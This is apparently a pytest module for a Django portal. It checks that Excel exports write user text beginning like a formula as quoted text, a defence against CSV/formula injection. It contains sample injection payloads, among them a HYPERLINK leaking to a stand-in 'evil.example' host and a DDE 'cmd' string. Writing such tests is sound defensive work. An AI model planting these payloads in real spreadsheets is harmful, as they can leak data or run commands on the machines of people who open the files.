"""No workbook the portal writes runs what people typed: a name or a title that starts like a
formula (= + - @, a tab, a carriage return, their fullwidth forms) opens in Excel as the text
it is, and stays text when someone edits the cell (OWASP's CSV / formula injection)."""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from grievances.models import Grievance
from parks.core.excel import XLSX_CONTENT_TYPE, sheet_cell
from parks.structure.choices import Role
from reforms.reporting.choices import PeriodKind, ReportScope
from reforms.reporting.contents import build_snapshot
from reforms.reporting.excel import report_workbook
from reforms.reporting.models import Report
from reforms.tasks.imports import task_import_preview
from tests.export_helpers import export_via_page
from tests.factories import (
    CarePaymentFactory,
    GrievanceFactory,
    OrganisationFactory,
    ParkFactory,
    PlanFactory,
    TaskFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak=1","点我")'
HOSTILE = [
    LINK,
    "+cmd|' /C calc'!A0",
    "-2+3 减去",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(1)",
    "＋1",
    "－1",
    "＠SUM(1)",
]


def _workbook(content: bytes):
    return load_workbook(BytesIO(content))


def _response_bytes(response) -> bytes:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def assert_text(cell, text):
    """The cell shows `text` as text and stays text when edited in Excel."""
    assert cell.value == text
    assert cell.data_type == "s", (text, cell.data_type)
    assert cell.quotePrefix, text


def cells_with(workbook, text):
    found = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]
    assert found, text
    return found


# --- The one cell writer ------------------------------------------------------------------------


def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_stay_numbers():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("表")
    sheet.append([sheet_cell(sheet, text) for text in HOSTILE])
    sheet.append(
        [
            sheet_cell(sheet, -5),
            sheet_cell(sheet, Decimal("-1234.50"), "#,##0.00"),
            sheet_cell(sheet, -0.25, "0.0%"),
            sheet_cell(sheet, "普通文字"),
            sheet_cell(sheet, "a=b"),
            sheet_cell(sheet, date(2026, 6, 1)),
        ]
    )
    stream = BytesIO()
    workbook.save(stream)

    read = _workbook(stream.getvalue())["表"]
    for cell, text in zip(read[1], HOSTILE, strict=True):
        # openpyxl writes with lxml (python-docx's dependency), which escapes a bare carriage
        # return, so the cell reads back exactly as written.
        assert_text(cell, text)
    negative, money, rate, plain, inner, day = read[2][:6]
    assert (negative.value, negative.data_type) == (-5, "n")
    assert (money.value, money.data_type, money.number_format) == (-1234.5, "n", "#,##0.00")
    assert (rate.value, rate.data_type) == (-0.25, "n")
    # Ordinary text is left as it is: nothing to neutralise.
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("普通文字", "s", False)
    assert (inner.value, inner.quotePrefix) == ("a=b", False)
    assert day.value.date() == date(2026, 6, 1) and day.number_format == "yyyy-mm-dd"


# --- Every workbook -----------------------------------------------------------------------------


def test_the_progress_report_title_never_runs_a_parks_name(time_machine):
    time_machine.move_to(datetime(2026, 7, 2, 10, 0, tzinfo=UTC), tick=False)
    park = ParkFactory(name=LINK)
    report = Report.objects.create(
        scope=ReportScope.PARK,
        park=park,
        period_kind=PeriodKind.MONTH,
        period_start=date(2026, 6, 1),
        period_end=date(2026, 6, 30),
    )

    workbook = _workbook(report_workbook(report, build_snapshot(report)))

    for sheet in workbook.worksheets:
        title = sheet["A1"]
        assert title.data_type != "f", sheet.title
        assert title.value.startswith(LINK) and "产改工作进展报告" in title.value
        assert title.quotePrefix and title.font.bold
    for cell in cells_with(workbook, LINK):
        assert cell.data_type == "s" and cell.quotePrefix


def test_the_ledger_export_never_runs_what_was_typed(client, office_user, time_machine):
    time_machine.move_to(datetime(2026, 6, 20, 2, 0, tzinfo=UTC))
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    park = ParkFactory(name=LINK)
    CarePaymentFactory(
        park=park,
        event="+cmd|' /C calc'!A0",
        reason="-2+3 减去",
        funding_source="@SUM(1+1)",
        paid_on=date(2026, 6, 10),
        recorded_by=office_user,
    )
    client.force_login(office_user)

    response = export_via_page(client, reverse("reforms:ledger_export", args=["care"]))

    workbook = _workbook(_response_bytes(response))
    row = workbook.worksheets[0][2]
    texts = {cell.value: cell for cell in row if isinstance(cell.value, str)}
    for text in (LINK, "+cmd|' /C calc'!A0", "-2+3 减去", "@SUM(1+1)"):
        assert_text(texts[text], text)
    amount = next(cell for cell in row if cell.value == 10000)
    assert amount.data_type == "n"


def test_the_grievance_export_never_runs_what_a_worker_typed(client, office_user, time_machine):
    time_machine.move_to(datetime(2026, 6, 2, 10, 0, tzinfo=UTC), tick=False)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    GrievanceFactory(
        park=ParkFactory(name="＝HYPERLINK(1)"),
        title=LINK,
        description="@SUM(1+1)",
        complainant_name="=张三丰",
        complainant_employer="-某商行",
    )
    client.force_login(office_user)

    response = export_via_page(
        client, reverse("grievances:export"), {"group": "all", "unmask": "1"}
    )

    workbook = _workbook(_response_bytes(response))
    row = workbook.worksheets[0][2]
    texts = {cell.value: cell for cell in row if isinstance(cell.value, str)}
    for text in ("＝HYPERLINK(1)", LINK, "@SUM(1+1)", "=张三丰", "-某商行"):
        assert_text(texts[text], text)
    assert Grievance.objects.count() == 1


@pytest.fixture
def hostile_task(park):
    park.name = "@园区"
    park.save(update_fields=["name"])
    unit = OrganisationFactory(name="=HYPERLINK(1)")
    task = TaskFactory(
        code="-2026-01",
        plan=PlanFactory(title="+方案", year=2026),
        park=park,
        lead_unit=unit,
        owner=UserFactory(username="@zhang", role=Role.MEMBER_UNIT, organisation=unit),
        title=LINK,
        description="-1 先办\n=第二行",
    )
    task.supporting_units.set([OrganisationFactory(name="-区人社局")])
    return task


def test_the_construction_table_never_runs_a_task_and_imports_back_unchanged(
    client, office_user, hostile_task
):
    client.force_login(office_user)

    content = _response_bytes(export_via_page(client, reverse("reforms:task_export")))

    row = _workbook(content).worksheets[0][2]
    texts = {cell.value: cell for cell in row if isinstance(cell.value, str)}
    for text in (
        "-2026-01",
        "+方案",
        "@园区",
        LINK,
        "-1 先办\n=第二行",
        "=HYPERLINK(1)",
        "-区人社局",
        "@zhang",
    ):
        assert_text(texts[text], text)
    # Read back, the text is exactly what was stored: no quote to strip, nothing changed.
    upload = SimpleUploadedFile("施工表.xlsx", content, content_type=XLSX_CONTENT_TYPE)
    task_import = task_import_preview(uploaded_file=upload, actor=office_user)
    assert task_import.sheet_errors == []
    assert [(item["errors"], item["action"]) for item in task_import.rows] == [([], "unchanged")]
